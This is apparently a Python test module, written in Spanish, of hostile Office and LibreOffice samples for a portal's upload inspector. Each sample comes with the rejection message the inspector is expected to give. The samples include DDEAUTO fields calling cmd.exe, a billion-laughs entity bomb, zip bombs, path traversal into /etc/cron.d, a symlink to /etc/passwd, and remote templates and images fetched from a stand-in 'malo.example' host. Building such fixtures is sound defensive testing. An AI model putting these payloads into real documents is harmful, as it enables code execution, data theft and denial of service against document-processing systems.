"""Documentos de Office y de LibreOffice que ejecutan, se conectan, mienten o revientan."""

import stat
import zipfile
from io import BytesIO

from stl_portal.archivo.inspector import frases
from stl_portal.archivo.tipos import ACEPTADOS
from tests.archivo import muestras as mu

XML = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaa'>]><raiz>&a;</raiz>"
RISAS = (
    "<!DOCTYPE x [<!ENTITY a 'ja'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><raiz>&i;</raiz>"
)
SCRIPT = (
    "<script:event-listener xmlns:script='s' xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='{}'/>"
)
AJENA = (
    "<draw:{} xmlns:draw='d' xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='https://malo.example/x'/>"
)
CAMPO = (
    "<w:p xmlns:w='w'><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
)


def _liga_simbolica() -> bytes:
    """Un DOCX cuya parte, al descomprimirse con otro programa, sería una liga a /etc/passwd."""
    salida = BytesIO(mu.ooxml("docx"))
    with zipfile.ZipFile(salida, "a") as paquete:
        entrada = zipfile.ZipInfo("word/media/liga")
        entrada.external_attr = (stat.S_IFLNK | 0o777) << 16
        paquete.writestr(entrada, "/etc/passwd")
    return salida.getvalue()


def _documento(cuerpo: str) -> bytes:
    return mu.ooxml("docx", {"word/header1.xml": cuerpo})


HOSTILES = {
    "docm": ("acta.docm", mu.ooxml("docx"), f"No se aceptan archivos .docm. Se aceptan: {ACEPTADOS}."),
    "docm de docx": ("acta.docx", mu.ooxml("docx", {"word/vbaProject.bin": b"\x00"}), frases.MACROS),
    "docm por su tipo": (
        "acta.docx",
        mu.ooxml("docx", tipo="application/vnd.ms-word.document.macroEnabled.main+xml"),
        frases.MACROS,
    ),
    "macro de excel 4": ("t.xlsx", mu.ooxml("xlsx", {"xl/macrosheets/s1.xml": "<a/>"}), frases.MACROS),
    "activex": ("acta.docx", mu.ooxml("docx", {"word/activeX/activeX1.xml": "<a/>"}), frases.MACROS),
    "objeto ole": (
        "acta.docx",
        mu.ooxml("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
        frases.OBJETO,
    ),
    "plantilla remota": (
        "acta.docx",
        mu.ooxml(
            "docx",
            {"word/_rels/settings.xml.rels": mu.relacion("attachedTemplate", "https://malo.example/x.dotm")},
        ),
        frases.VINCULO,
    ),
    "plantilla en otra máquina": (
        "acta.docx",
        mu.ooxml(
            "docx",
            {"word/_rels/settings.xml.rels": mu.relacion("attachedTemplate", "file:///\\\\malo\\x.dotm")},
        ),
        frases.VINCULO,
    ),
    "otro libro": (
        "t.xlsx",
        mu.ooxml("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"}),
        frases.VINCULO_EXCEL,
    ),
    "entidades": ("acta.docx", mu.ooxml("docx", {"word/notas.xml": XML}), frases.ENTIDADES),
    "entidades utf-16": (
        "acta.docx",
        mu.ooxml("docx", {"word/n.xml": XML.encode("utf-16")}),
        frases.ENTIDADES,
    ),
    "bomba": ("acta.docx", mu.ooxml("docx", {"word/media/i.png": b"\x00" * 60_000_000}), frases.BOMBA),
    "bomba por cantidad": (
        "acta.docx",
        mu.ooxml("docx", {f"word/{n}.xml": "<a/>" for n in range(2_001)}),
        frases.BOMBA,
    ),
    "índice mentiroso": ("acta.docx", mu.zip_que_miente(), frases.DANADO),
    "ruta que sale": ("acta.docx", mu.ooxml("docx", {"../../etc/cron.d/x": "x"}), frases.RUTAS),
    "algo antes": (
        "acta.docx",
        b"PK\x03\x04" + b"basura" + mu.ooxml("docx"),
        "El documento trae otro contenido escondido antes o después.",
    ),
    "algo después": (
        "acta.docx",
        mu.ooxml("docx") + b"MZ basura",
        "El documento trae otro contenido escondido antes o después.",
    ),
    "macro de libreoffice": (
        "acta.odt",
        mu.odf(SCRIPT.format("vnd.sun.star.script:Standard.Modulo.Main?language=Basic")),
        frases.MACROS,
    ),
    "biblioteca basic": ("acta.odt", mu.odf(extra={"Basic/Standard/Modulo1.xml": "<a/>"}), frases.MACROS),
    "imagen remota": ("acta.odt", mu.odf(AJENA.format("image")), frases.VINCULO),
    "odt cifrado": (
        "acta.odt",
        mu.odf(extra={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        frases.CONTRASENA,
    ),
    "ods de odt": (
        "acta.odt",
        mu.odf(mime="spreadsheet"),
        "El archivo dice ser texto de LibreOffice (ODT) pero por dentro es otra cosa.",
    ),
    "liga simbólica": ("acta.docx", _liga_simbolica(), frases.RUTAS),
    "ruta absoluta": ("acta.docx", mu.ooxml("docx", {"/etc/cron.d/x": "x"}), frases.RUTAS),
    "ruta de windows": ("acta.docx", mu.ooxml("docx", {"C:/windows/x": "x"}), frases.RUTAS),
    "mil millones de risas": ("t.xlsx", mu.ooxml("xlsx", {"xl/sharedStrings.xml": RISAS}), frases.ENTIDADES),
    "bomba de celdas": (
        "t.xlsx",
        mu.ooxml("xlsx", {"xl/worksheets/a.xml": b"<c/>" * 15_000_000}),
        frases.BOMBA,
    ),
    "base de datos": ("t.xlsx", mu.ooxml("xlsx", {"xl/connections.xml": "<c/>"}), frases.VINCULO),
    "consulta": ("t.xlsx", mu.ooxml("xlsx", {"xl/queryTables/q1.xml": "<q/>"}), frases.VINCULO),
    "dde": ("acta.docx", _documento(CAMPO.format("DDEAUTO ", "c:\\cmd.exe")), frases.MACROS),
    "dde partido": ("acta.docx", _documento(CAMPO.format(" DDE", "AUTO cmd.exe")), frases.MACROS),
    "imagen que se trae": (
        "acta.docx",
        _documento(CAMPO.format("INCLUDEPICTURE ", '"https://malo.example/x.png"')),
        frases.VINCULO,
    ),
    "imagen por relación": (
        "acta.docx",
        mu.ooxml("docx", {"word/_rels/a.rels": mu.relacion("image", "https://malo.example/x.png")}),
        frases.VINCULO,
    ),
    "programa dentro": ("acta.docx", mu.ooxml("docx", {"word/media/a.exe": b"MZ"}), frases.MACROS),
    "xml roto": ("acta.docx", mu.ooxml("docx", {"word/_rels/a.rels": "<Relationships>"}), frases.DANADO),
    "dde de ods": ("t.ods", mu.odf("<t:dde-source xmlns:t='t'/>", mime="spreadsheet"), frases.VINCULO),
    "tabla de otro libro": (
        "t.ods",
        mu.odf("<t:table-source xmlns:t='t'/>", mime="spreadsheet"),
        frases.VINCULO,
    ),
    "macro de ods": (
        "t.ods",
        mu.odf(SCRIPT.format("vnd.sun.star.script:x?language=Python"), mime="spreadsheet"),
        frases.MACROS,
    ),
    "guiones de ods": (
        "t.ods",
        mu.odf(mime="spreadsheet", extra={"Scripts/python/a.py": "x"}),
        frases.MACROS,
    ),
    "objeto remoto": ("acta.odt", mu.odf(AJENA.format("object-ole")), frases.VINCULO),
    "marco remoto": ("acta.odt", mu.odf(AJENA.format("floating-frame")), frases.VINCULO),
    "odt sin manifiesto": (
        "acta.odt",
        mu.paquete({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "El archivo dice ser texto de LibreOffice (ODT) pero le faltan partes.",
    ),
}
TOLERADOS = {
    "docx con liga": (
        "acta.docx",
        mu.ooxml("docx", {"word/_rels/document.xml.rels": mu.relacion("hyperlink", "https://gob.example/")}),
    ),
    "docx con guion escrito": (
        "acta.docx",
        mu.ooxml("docx", {"word/notas.xml": "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>"}),
    ),
}
